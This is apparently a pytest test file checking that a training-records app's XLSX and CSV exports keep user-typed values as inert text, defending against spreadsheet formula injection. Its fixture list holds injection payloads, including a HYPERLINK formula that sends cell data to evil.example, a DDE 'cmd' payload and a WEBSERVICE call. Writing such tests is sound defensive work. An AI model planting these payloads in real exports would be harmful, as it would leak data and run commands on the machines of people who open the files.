"""Exports never run what trainees typed (issue 13 item 8): formulas stay text in XLSX and CSV."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assistant.config import REPO_ROOT
from assistant.training.bank import default_bank
from assistant.training.export import export_csv, export_xlsx
from assistant.training.quiz import grade, new_quiz
from assistant.training.records import TrainingRecords

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


@pytest.fixture
def hostile_records(tmp_path: Path):
    bank = default_bank(REPO_ROOT / "corpus")
    store = TrainingRecords(tmp_path / "t.sqlite3")
    for i, name in enumerate(HOSTILE):
        quiz = new_quiz("内部审核", n=3, seed=i, bank=bank)
        answers = ["=1+1" if q.objective else '=WEBSERVICE("http://x")' for q in quiz.questions]
        store.save(name, "@角色", "-部门", quiz, grade(quiz, answers))
    return store.attempts()


def test_xlsx_keeps_formula_like_names_as_text(tmp_path: Path, hostile_records) -> None:
    path = export_xlsx(hostile_records, tmp_path / "记录.xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any("<f>" in z.read(n).decode("utf-8") for n in sheets)  # no formula element
    wb = load_workbook(path)
    sheet = wb["培训记录"]
    names = [sheet.cell(row, 1) for row in range(4, 4 + len(HOSTILE))]
    assert [c.value for c in names] == HOSTILE  # the evidence keeps the name exactly as typed
    assert all(c.data_type == "s" for c in names)
    assert {sheet.cell(row, 2).data_type for row in range(4, 8)} == {"s"}
    details = wb["答题明细"]
    typed = [c for row in details.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert typed and all(c.data_type == "s" for c in typed)


def test_csv_prefixes_a_quote_before_formula_characters(tmp_path: Path, hostile_records) -> None:
    path = export_csv(hostile_records, tmp_path / "记录.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))[1:]
    assert [r[0] for r in rows] == ["'" + name for name in HOSTILE]
    assert all(r[1] == "'@角色" and r[2] == "'-部门" for r in rows)
    cells = [cell for r in rows for cell in r]
    assert not any(cell[:1] in "=+-@" and cell for cell in cells)  # scores are positive numbers
